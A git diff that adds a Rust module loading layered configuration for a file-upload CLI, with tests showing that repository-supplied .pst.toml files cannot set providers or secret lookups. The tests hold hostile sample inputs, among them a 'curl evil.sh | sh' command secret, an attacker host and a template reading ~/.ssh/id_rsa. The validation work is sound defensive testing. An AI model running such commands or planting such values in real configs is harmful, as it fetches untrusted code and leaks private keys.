@@ -0,0 +1,526 @@
+use super::{get_config_path, migrate, Config, ConfigError};
+use std::path::{Path, PathBuf};
+use toml::Value;
+
+/// Name of the project-local config, found by walking up from the current directory.
+pub const PROJECT_CONFIG: &str = ".pst.toml";
+
+/// `[general]` settings that can be overridden with environment variables.
+const ENV_OVERRIDES: [(&str, &str, Kind); 6] = [
+    ("PST_DEFAULT_PROVIDER", "default_provider", Kind::String),
+    ("PST_TIMEOUT_SECONDS", "timeout_seconds", Kind::Integer),
+    ("PST_MAX_RETRIES", "max_retries", Kind::Integer),
+    ("PST_RETRY_DELAY_MS", "retry_delay_ms", Kind::Integer),
+    ("PST_COPY_TO_CLIPBOARD", "copy_to_clipboard", Kind::Bool),
+    ("PST_STRIP_EXIF", "strip_exif", Kind::Bool),
+];
+
+/// Sections a `.pst.toml` may set. It comes with whatever repository is checked out, so it
+/// can pick groups, routing and templates but can't touch providers or their secrets.
+const PROJECT_SECTIONS: [&str; 5] = [
+    "version",
+    "general",
+    "provider_groups",
+    "routing",
+    "templates",
+];
+
+/// `[general]` settings a `.pst.toml` may set. `strip_exif` can only be turned on.
+const PROJECT_GENERAL_KEYS: [&str; 6] = [
+    "default_provider",
+    "timeout_seconds",
+    "max_retries",
+    "retry_delay_ms",
+    "copy_to_clipboard",
+    "strip_exif",
+];
+
+#[derive(Debug, Clone, Copy)]
+enum Kind {
+    String,
+    Integer,
+    Bool,
+}
+
+/// Where the config is read from and which profile is applied.
+#[derive(Debug, Clone, Default)]
+pub struct LoadOptions {
+    /// Config file to use instead of the default, from `--config` or `PST_CONFIG`
+    pub path: Option<PathBuf>,
+    /// Profile from `[profiles.<name>]` to apply, from `--profile` or `PST_PROFILE`
+    pub profile: Option<String>,
+    /// Directory to search upwards from for `.pst.toml`, usually the current directory
+    pub project_dir: Option<PathBuf>,
+}
+
+impl Config {
+    /// Loads the config, layering in order: the config file, the nearest `.pst.toml`,
+    /// the selected profile, then `PST_*` environment variables.
+    ///
+    /// Built-in defaults are used until `pst config init` creates the default config file.
+    /// A file given with `--config` or `PST_CONFIG` must exist.
+    pub fn load(options: &LoadOptions) -> Result<Self, ConfigError> {
+        load_with_env(options, |name| std::env::var(name).ok())
+    }
+}
+
+fn load_with_env(
+    options: &LoadOptions,
+    env: impl Fn(&str) -> Option<String>,
+) -> Result<Config, ConfigError> {
+    let mut value = match explicit_path(options, &env) {
+        Some(path) if !path.exists() => return Err(ConfigError::NotFound(path)),
+        Some(path) => read_config_file(&path)?,
+        None => {
+            let path = get_config_path()?;
+            if path.exists() {
+                read_config_file(&path)?
+            } else {
+                // Nothing is written until `pst config init`
+                Value::try_from(Config::default_with_ftp())
+                    .map_err(ConfigError::TomlSerializeError)?
+            }
+        }
+    };
+
+    if let Some(path) = options.project_dir.as_deref().and_then(find_project_config) {
+        let project = read_config_file(&path)?;
+        let errors = project_config_errors(&project);
+        if !errors.is_empty() {
+            return Err(ConfigError::InvalidValue(format!(
+                "{}: {}",
+                path.display(),
+                errors.join("; ")
+            )));
+        }
+        merge(&mut value, project);
+    }
+
+    let profiles = match &mut value {
+        Value::Table(table) => table.remove("profiles"),
+        _ => None,
+    };
+    let profile = options
+        .profile
+        .clone()
+        .or_else(|| env("PST_PROFILE").filter(|name| !name.is_empty()));
+    if let Some(name) = profile {
+        merge(&mut value, select_profile(profiles, &name)?);
+    }
+
+    apply_env_overrides(&mut value, env)?;
+
+    value
+        .try_into()
+        .map_err(|e| ConfigError::ParseError(e.to_string()))
+}
+
+fn explicit_path(options: &LoadOptions, env: impl Fn(&str) -> Option<String>) -> Option<PathBuf> {
+    options.path.clone().or_else(|| {
+        env("PST_CONFIG")
+            .filter(|path| !path.is_empty())
+            .map(PathBuf::from)
+    })
+}
+
+/// The config file `load` reads: from `--config`, `PST_CONFIG` or the default location.
+pub fn config_path(options: &LoadOptions) -> Result<PathBuf, ConfigError> {
+    match explicit_path(options, |name| std::env::var(name).ok()) {
+        Some(path) => Ok(path),
+        None => get_config_path(),
+    }
+}
+
+/// Reads one config file, upgrading an older layout in memory.
+fn read_config_file(path: &Path) -> Result<Value, ConfigError> {
+    let mut value = read_toml(path)?;
+    if !migrate(&mut value)?.is_empty() {
+        eprintln!(
+            "Note: {} uses an older config layout, run `pst config migrate` to update it",
+            path.display()
+        );
+    }
+    Ok(value)
+}
+
+/// Parses a TOML file. Syntax errors include the line and column.
+pub fn read_toml(path: &Path) -> Result<Value, ConfigError> {
+    let content = std::fs::read_to_string(path)?;
+    toml::from_str(&content)
+        .map_err(|e| ConfigError::ParseError(format!("{}: {}", path.display(), e)))
+}
+
+/// Finds the nearest `.pst.toml` in `dir` or one of its parents.
+pub fn find_project_config(dir: &Path) -> Option<PathBuf> {
+    dir.ancestors()
+        .map(|dir| dir.join(PROJECT_CONFIG))
+        .find(|path| path.is_file())
+}
+
+/// Overlays `overlay` onto `base`. Tables are merged key by key, anything else is replaced.
+pub(super) fn merge(base: &mut Value, overlay: Value) {
+    match (base, overlay) {
+        (Value::Table(base), Value::Table(overlay)) => {
+            for (key, value) in overlay {
+                match base.get_mut(&key) {
+                    Some(existing) => merge(existing, value),
+                    None => {
+                        base.insert(key, value);
+                    }
+                }
+            }
+        }
+        (base, overlay) => *base = overlay,
+    }
+}
+
+pub(super) fn select_profile(profiles: Option<Value>, name: &str) -> Result<Value, ConfigError> {
+    let mut profiles = match profiles {
+        Some(Value::Table(profiles)) => profiles,
+        _ => toml::value::Table::new(),
+    };
+    if let Some(profile) = profiles.remove(name) {
+        return Ok(profile);
+    }
+
+    let mut available: Vec<&String> = profiles.keys().collect();
+    available.sort();
+    Err(ConfigError::InvalidValue(if available.is_empty() {
+        format!("Unknown profile '{}', no [profiles] are configured", name)
+    } else {
+        format!(
+            "Unknown profile '{}'. Available: {}",
+            name,
+            available
+                .iter()
+                .map(|name| name.as_str())
+                .collect::<Vec<_>>()
+                .join(", ")
+        )
+    }))
+}
+
+/// Settings in a `.pst.toml` that it isn't allowed to change, see [`PROJECT_SECTIONS`].
+pub(super) fn project_config_errors(value: &Value) -> Vec<String> {
+    let mut errors = Vec::new();
+    let Value::Table(table) = value else {
+        return errors;
+    };
+
+    for (key, section) in table {
+        if !PROJECT_SECTIONS.contains(&key.as_str()) {
+            errors.push(format!(
+                "[{}] can't be set in a project config, move it to your own config file",
+                key
+            ));
+            continue;
+        }
+        match (key.as_str(), section) {
+            ("general", Value::Table(general)) => {
+                for (name, setting) in general {
+                    if !PROJECT_GENERAL_KEYS.contains(&name.as_str()) {
+                        errors.push(format!("general.{} can't be set in a project config", name));
+                    } else if name == "strip_exif" && *setting != Value::Boolean(true) {
+                        errors.push(
+                            "general.strip_exif can only be turned on in a project config"
+                                .to_string(),
+                        );
+                    }
+                }
+            }
+            ("routing", Value::Array(rules)) => {
+                for (index, rule) in rules.iter().enumerate() {
+                    let strip_exif = rule.get("strip_exif");
+                    if strip_exif.is_some_and(|v| *v != Value::Boolean(true)) {
+                        errors.push(format!(
+                            "routing rule #{}: strip_exif can only be turned on in a project config",
+                            index + 1
+                        ));
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+
+    if contains_secret_reference(value) {
+        errors.push(
+            "{ env }, { file }, { command } and { keyring } secrets are not allowed in a project config"
+                .to_string(),
+        );
+    }
+    errors
+}
+
+/// Whether any table looks like a secret that is looked up, such as `{ file = "..." }`.
+fn contains_secret_reference(value: &Value) -> bool {
+    match value {
+        Value::Table(table) => {
+            (table.len() == 1
+                && ["env", "command", "file", "keyring"]
+                    .iter()
+                    .any(|key| table.contains_key(*key)))
+                || table.values().any(contains_secret_reference)
+        }
+        Value::Array(values) => values.iter().any(contains_secret_reference),
+        _ => false,
+    }
+}
+
+fn apply_env_overrides(
+    value: &mut Value,
+    env: impl Fn(&str) -> Option<String>,
+) -> Result<(), ConfigError> {
+    for (var, key, kind) in ENV_OVERRIDES {
+        let Some(raw) = env(var) else {
+            continue;
+        };
+        let invalid = |expected: &str| {
+            ConfigError::InvalidValue(format!("{} must be {}, got '{}'", var, expected, raw))
+        };
+        let parsed = match kind {
+            Kind::String => Value::String(raw.clone()),
+            Kind::Integer => Value::Integer(
+                raw.trim()
+                    .parse::<u32>()
+                    .map_err(|_| invalid("a whole number"))?
+                    .into(),
+            ),
+            Kind::Bool => Value::Boolean(match raw.trim().to_ascii_lowercase().as_str() {
+                "1" | "true" | "yes" | "on" => true,
+                "0" | "false" | "no" | "off" => false,
+                _ => return Err(invalid("true or false")),
+            }),
+        };
+
+        let mut overlay = toml::value::Table::new();
+        overlay.insert(key.to_string(), parsed);
+        let mut general = toml::value::Table::new();
+        general.insert("general".to_string(), Value::Table(overlay));
+        merge(value, Value::Table(general));
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::ProviderConfig;
+    use std::collections::HashMap;
+
+    struct TempDir(PathBuf);
+
+    impl TempDir {
+        fn new(name: &str) -> Self {
+            let path = std::env::temp_dir().join(format!("pst-{}-{}", name, std::process::id()));
+            let _ = std::fs::remove_dir_all(&path);
+            std::fs::create_dir_all(&path).unwrap();
+            Self(path)
+        }
+
+        fn write(&self, name: &str, content: &str) -> PathBuf {
+            let path = self.0.join(name);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(&path, content).unwrap();
+            path
+        }
+    }
+
+    impl Drop for TempDir {
+        fn drop(&mut self) {
+            let _ = std::fs::remove_dir_all(&self.0);
+        }
+    }
+
+    const BASE: &str = r#"
+[general]
+default_provider = "all"
+timeout_seconds = 30
+max_retries = 3
+retry_delay_ms = 1000
+
+[providers.0x0st]
+type = "http"
+
+[providers.s3]
+type = "s3"
+enabled = false
+bucket = "personal"
+region = "us-east-1"
+access_key_id = "AKIA"
+secret_access_key = { env = "S3_SECRET" }
+public_url = "https://personal.example.com"
+
+[provider_groups.files]
+providers = ["0x0st"]
+
+[profiles.work.general]
+timeout_seconds = 120
+
+[profiles.work.providers.s3]
+enabled = true
+bucket = "work"
+
+[profiles.work.provider_groups.files]
+providers = ["s3"]
+"#;
+
+    fn load(options: &LoadOptions, vars: &[(&str, &str)]) -> Result<Config, ConfigError> {
+        let vars: HashMap<String, String> = vars
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect();
+        load_with_env(options, |name| vars.get(name).cloned())
+    }
+
+    fn s3_bucket(config: &Config) -> (&str, bool) {
+        match &config.providers["s3"] {
+            ProviderConfig::S3(s3) => (s3.bucket.as_str(), s3.enabled),
+            _ => panic!("s3 is not an S3 provider"),
+        }
+    }
+
+    #[test]
+    fn test_profile_overlays_general_providers_and_groups() {
+        let dir = TempDir::new("profiles");
+        let path = dir.write("config.toml", BASE);
+        let options = LoadOptions {
+            path: Some(path.clone()),
+            ..Default::default()
+        };
+
+        let personal = load(&options, &[]).unwrap();
+        assert_eq!(personal.general.timeout_seconds, 30);
+        assert_eq!(s3_bucket(&personal), ("personal", false));
+
+        let work = load(&options, &[("PST_PROFILE", "work")]).unwrap();
+        assert_eq!(work.general.timeout_seconds, 120);
+        assert_eq!(work.general.max_retries, 3);
+        assert_eq!(s3_bucket(&work), ("work", true));
+        assert_eq!(work.provider_groups["files"].providers, vec!["s3"]);
+
+        let error = load(
+            &LoadOptions {
+                profile: Some("home".to_string()),
+                ..options
+            },
+            &[],
+        )
+        .unwrap_err();
+        assert!(error.to_string().contains("Available: work"), "{}", error);
+    }
+
+    #[test]
+    fn test_config_path_from_env_and_missing_file() {
+        let dir = TempDir::new("config-path");
+        let path = dir.write("ci.toml", BASE);
+
+        let config = load(
+            &LoadOptions::default(),
+            &[("PST_CONFIG", path.to_str().unwrap())],
+        )
+        .unwrap();
+        assert_eq!(s3_bucket(&config).0, "personal");
+
+        let missing = LoadOptions {
+            path: Some(dir.0.join("missing.toml")),
+            ..Default::default()
+        };
+        assert!(matches!(load(&missing, &[]), Err(ConfigError::NotFound(_))));
+    }
+
+    #[test]
+    fn test_project_config_is_found_in_parent_directories() {
+        let dir = TempDir::new("project");
+        let path = dir.write("config.toml", BASE);
+        dir.write(
+            "repo/.pst.toml",
+            "[general]\nmax_retries = 0\n\n[provider_groups.files]\nproviders = [\"s3\", \"0x0st\"]\n",
+        );
+        let nested = dir.0.join("repo/src/bin");
+        std::fs::create_dir_all(&nested).unwrap();
+
+        let config = load(
+            &LoadOptions {
+                path: Some(path.clone()),
+                project_dir: Some(nested),
+                ..Default::default()
+            },
+            &[],
+        )
+        .unwrap();
+        assert_eq!(config.general.max_retries, 0);
+        assert_eq!(config.general.timeout_seconds, 30);
+        assert_eq!(
+            config.provider_groups["files"].providers,
+            vec!["s3", "0x0st"]
+        );
+
+        let refused = [
+            (
+                "[providers.s3]\nsecret_access_key = { command = \"curl evil.sh | sh\" }\n",
+                "[providers] can't be set",
+            ),
+            (
+                "[providers.ftp_sftp]\nhost = \"attacker.example.com\"\n",
+                "[providers] can't be set",
+            ),
+            ("[general]\nstrip_exif = false\n", "general.strip_exif"),
+            (
+                "[secret_scan]\nenabled = false\n",
+                "[secret_scan] can't be set",
+            ),
+            (
+                "[[routing]]\nextensions = [\"jpg\"]\ngroup = \"files\"\nstrip_exif = false\n",
+                "routing rule #1",
+            ),
+            (
+                "[templates]\nleak = { file = \"~/.ssh/id_rsa\" }\n",
+                "secrets are not allowed",
+            ),
+        ];
+        for (project, expected) in refused {
+            dir.write("repo/.pst.toml", project);
+            let error = load(
+                &LoadOptions {
+                    path: Some(path.clone()),
+                    project_dir: Some(dir.0.join("repo")),
+                    ..Default::default()
+                },
+                &[],
+            )
+            .unwrap_err();
+            assert!(error.to_string().contains(expected), "{}", error);
+            assert!(!crate::config::validate_project_file(&dir.0.join("repo/.pst.toml")).is_ok());
+        }
+    }
+
+    #[test]
+    fn test_env_overrides_general_settings() {
+        let dir = TempDir::new("env");
+        let path = dir.write("config.toml", BASE);
+        let options = LoadOptions {
+            path: Some(path),
+            profile: Some("work".to_string()),
+            ..Default::default()
+        };
+
+        let config = load(
+            &options,
+            &[
+                ("PST_TIMEOUT_SECONDS", "5"),
+                ("PST_DEFAULT_PROVIDER", "0x0st"),
+                ("PST_COPY_TO_CLIPBOARD", "yes"),
+                ("PST_STRIP_EXIF", "0"),
+            ],
+        )
+        .unwrap();
+        assert_eq!(config.general.timeout_seconds, 5);
+        assert_eq!(config.general.default_provider, "0x0st");
+        assert!(config.general.copy_to_clipboard);
+        assert!(!config.general.strip_exif);
+
+        let error = load(&options, &[("PST_MAX_RETRIES", "lots")]).unwrap_err();
+        assert!(error.to_string().contains("PST_MAX_RETRIES"), "{}", error);
+    }
+}